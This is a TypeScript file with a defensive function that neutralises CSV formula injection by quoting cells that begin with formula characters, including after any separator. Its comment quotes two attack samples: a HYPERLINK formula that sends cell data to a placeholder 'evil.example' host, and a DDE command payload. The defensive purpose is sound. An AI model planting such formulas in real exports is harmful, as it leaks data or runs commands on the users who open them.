/**
 * Keeps a text field of a CSV/TSV filled copy from being run as a formula when the copy is opened in a
 * spreadsheet. A cell a spreadsheet reads as a formula or a command — one beginning with `=`, `+`, `-`,
 * `@`, a tab or a carriage return (OWASP, "CSV Injection") — gets a single quote in front, the prefix
 * spreadsheets themselves use for "this is text": `=HYPERLINK("https://evil.example/?d="&A2,…)`, quoted
 * from a document, arrives as `'=HYPERLINK(…)` and stays text.
 *
 * Where a cell begins depends on how the copy is opened, not only on its own delimiter (#37): a
 * semicolon-delimited copy opened in a comma locale splits a field at its commas (its quotes then no
 * longer at a cell's start), a pipe or tab does the same in other locales, and a line break in a field
 * read that way starts a row. So the same rule applies after every `,` `;` `|`, tab and line break in
 * the field, spaces and quotes after it skipped: `…30 days,=cmd|' /C calc'!A0, per…` becomes
 * `…30 days,'=cmd|' /C calc'!A0, per…`. A plain signed number ("-2", "+3.5", "-1,234.5", "-12%") is left
 * as it is, at the start or after a separator: a spreadsheet reads it as the number it is and runs
 * nothing, and a figure in an answer stays readable. XLSX copies need none of this (their cells are typed
 * strings).
 */

/** What may split a field into cells when the copy is read with another delimiter, or its quotes are lost. */
const SEPARATOR = /([,;|\t\r\n])/;

/** What spreadsheets start a formula or a DDE command with. */
const FORMULA_START = /^([ "]*)([=+\-@])/;

/** A signed number and nothing else: digits with optional thousands separators, decimals and a percent sign. */
const PLAIN_NUMBER = /^[+-]?\d{1,3}(?:[, ]?\d{3})*(?:\.\d+)?%?$|^[+-]?\d+(?:\.\d+)?%?$/;

/** A piece between separators with a quote put before its formula character (spaces and quotes kept). */
function guardPiece(piece: string): string {
  const match = FORMULA_START.exec(piece);
  if (!match) return piece;
  const lead = match[1] ?? "";
  const rest = piece.slice(lead.length);
  return PLAIN_NUMBER.test(rest.trimEnd()) ? piece : `${lead}'${rest}`;
}

export function neutraliseFormula(value: string): string {
  const pieces = value.split(SEPARATOR);
  // pieces: text, separator, text, separator, … — a tab or carriage return first is a formula start itself.
  const guarded = pieces.map((piece, index) => (index % 2 === 1 ? piece : guardPiece(piece)));
  const text = guarded.join("");
  return /^[\t\r]/.test(text) ? `'${text}` : text;
}
